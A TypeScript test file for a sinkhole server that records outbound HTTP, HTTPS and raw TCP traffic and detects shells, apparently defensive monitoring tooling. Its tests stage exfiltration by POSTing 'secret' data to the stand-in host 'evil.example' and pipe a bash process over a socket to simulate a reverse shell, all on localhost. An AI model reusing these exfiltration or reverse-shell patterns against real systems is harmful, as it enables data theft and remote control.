import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { request as requestHttp } from 'node:http';
import { request as requestHttps } from 'node:https';
import { type AddressInfo, connect, createServer } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createAuthority } from './certificates.ts';
import { PROGRAM_PORT } from './record.ts';
import { Records } from './records.ts';
import { SinkTcp } from './sink-tcp.ts';

const records = new Records();
const authority = createAuthority(Date.now());
const sink = new SinkTcp(records, authority, '127.0.0.9');
const server = createServer((socket) => sink.attend(socket));
let port = 0;

beforeAll(async () => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  port = (server.address() as AddressInfo).port;
});

afterAll(() => {
  server.close();
});

function post(secure: boolean, body: string): Promise<number> {
  const request = secure ? requestHttps : requestHttp;
  const options = {
    host: '127.0.0.1',
    port,
    method: 'POST',
    path: '/in',
    headers: { Host: 'evil.example' },
    ...(secure ? { ca: authority.certificate, servername: 'evil.example' } : {}),
  };
  return new Promise((resolve, reject) => {
    const asked = request(options, (response) => {
      response.resume();
      response.on('end', () => resolve(response.statusCode ?? 0));
    });
    asked.on('error', reject);
    asked.end(body);
  });
}

function sampleOf(index: number): string {
  return Buffer.from(records.all.at(index)?.sample ?? '', 'base64').toString('latin1');
}

describe('the sinkhole', () => {
  test.each([false, true])('keeps what is sent by HTTP (within TLS: %s)', async (secure) => {
    const body = `secret ${'x'.repeat(50_000)}`;
    expect(await post(secure, body)).toBe(200);
    expect(records.all.at(-1)).toMatchObject({
      kind: 'http',
      secure,
      name: 'evil.example',
      text: 'POST /in',
    });
    expect(sampleOf(-1)).toContain(body);
  });

  test('finds out that somebody gives it a shell, also one that speaks first', async () => {
    for (const before of ['', 'echo hello; ']) {
      const child = spawn('bash', ['-c', `${before}exec bash -s`], { stdio: ['pipe', 'pipe', 'ignore'] });
      const socket = connect({ host: '127.0.0.1', port });
      socket.pipe(child.stdin);
      child.stdout.pipe(socket);
      await once(child, 'close');
      socket.destroy();
      expect(records.all.at(-1)).toMatchObject({ kind: 'shell', port });
    }
  });

  test.each([
    ['no host', 'GET /secret HTTP/1.1\r\n\r\n'],
    ['a broken head', 'GET /secret HTTP/1.1\r\n bad\r\n: \r\n\r\n'],
    ['CONNECT', 'CONNECT secret.example:443 HTTP/1.1\r\nHost: secret.example\r\n\r\n'],
    ['an odd wish', 'POST /secret HTTP/1.1\r\nHost: a.example\r\nExpect: nothing\r\n\r\n'],
    ['only its start', 'GET /secret'],
  ])('keeps a request with %s', async (_, text) => {
    const socket = connect({ host: '127.0.0.1', port });
    socket.on('error', () => undefined).resume();
    socket.end(text);
    await once(socket, 'close');
    expect(sampleOf(-1)).toContain('secret');
  });

  test('keeps the end of what is too long, and says how much came', () => {
    const kept = new Records();
    const visit = kept.add({ kind: 'tcp', to: '', port: 1 });
    visit.take(Buffer.from('begin'));
    for (let part = 0; part < 40; part += 1) visit.take(Buffer.alloc(10_000, 120));
    visit.take(Buffer.from('secret at the end'));
    visit.done();
    const sample = Buffer.from(kept.all[0]?.sample ?? '', 'base64').toString('latin1');
    expect(sample).toMatch(/^begin.*secret at the end$/);
    expect(sample.length).toBeLessThanOrEqual(128 * 1024);
    expect(kept.all[0]?.bytes).toBe(400_022);
  });

  test('keeps whole what is not too long, in its order', () => {
    const kept = new Records();
    const visit = kept.add({ kind: 'tcp', to: '', port: 1 });
    const parts = Array.from({ length: 13 }, (_, at) => Buffer.alloc(10_000, 97 + at));
    for (const part of parts) visit.take(part);
    visit.done();
    expect(kept.all[0]?.sample).toBe(Buffer.concat(parts).toString('base64'));
  });

  test('keeps what is sent without a protocol, and tells it from a shell', async () => {
    const socket = connect({ host: '127.0.0.1', port });
    socket.write('some words\n');
    const [question] = (await once(socket, 'data')) as [Buffer];
    expect(question.toString()).toContain('echo');
    socket.end();
    await once(socket, 'close');
    expect(records.all.at(-1)).toMatchObject({ kind: 'tcp', bytes: 11 });
    expect(sampleOf(-1)).toBe('some words\n');
  });

  test('goes on after a program told of itself in a broken way', async () => {
    const programs = new SinkTcp(new Records(), authority, '127.0.0.1');
    const other = createServer((socket) => programs.attend(socket));
    other.listen(PROGRAM_PORT, '127.0.0.1');
    await once(other, 'listening');
    const status = await new Promise((resolve) => {
      requestHttp({ host: '127.0.0.1', port: PROGRAM_PORT, path: '/%zz' }, (response) => {
        response.resume();
        resolve(response.statusCode);
      })
        .on('error', resolve)
        .end();
    });
    other.close();
    expect(status).toBe(200);
  });
});
